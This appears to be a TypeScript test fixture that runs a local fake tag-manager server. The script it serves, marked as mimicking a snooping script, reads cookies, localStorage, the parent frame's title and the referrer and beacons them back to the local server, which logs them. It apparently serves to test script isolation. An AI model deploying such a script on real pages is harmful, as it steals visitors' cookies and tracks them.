import { once } from 'node:events'
import { createServer } from 'node:http'

export interface Vendor {
  readonly origin: string
  /** The paths requested, with their queries. */
  readonly asked: string[]
  /** The cookies sent with each request. */
  readonly cookies: (string | undefined)[]
  close(): Promise<void>
}

/** A local tag manager whose script reports every event that it finds in the data layer. */
const SCRIPT = `(() => {
  const origin = new URL(document.currentScript.src).origin
  const report = entry => { new Image().src = origin + '/hit?' + new URLSearchParams(entry) }
  const layer = window.dataLayer
  layer.splice(0).forEach(report)
  layer.push = report
  // What a snooping script would look for.
  const tryTo = read => { try { return String(read()) } catch (error) { return error.name } }
  report({
    event: 'look',
    origin: self.origin,
    storage: tryTo(() => localStorage.length),
    cookie: tryTo(() => document.cookie),
    parent: tryTo(() => parent.document.title),
    referrer: document.referrer,
  })
})()`

export async function openVendor(): Promise<Vendor> {
  const asked: string[] = []
  const cookies: (string | undefined)[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    cookies.push(request.headers.cookie)
    response.setHeader('set-cookie', 'visitor=1; Path=/; Max-Age=86400; SameSite=None; Secure')
    response.setHeader('content-type', request.url?.startsWith('/gtm.js') ? 'text/javascript' : 'image/gif')
    response.end(request.url?.startsWith('/gtm.js') ? SCRIPT : '')
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('No address')
  return {
    origin: `http://127.0.0.1:${address.port}`,
    asked,
    cookies,
    async close() {
      server.close()
      server.closeAllConnections()
      await once(server, 'close')
    },
  }
}
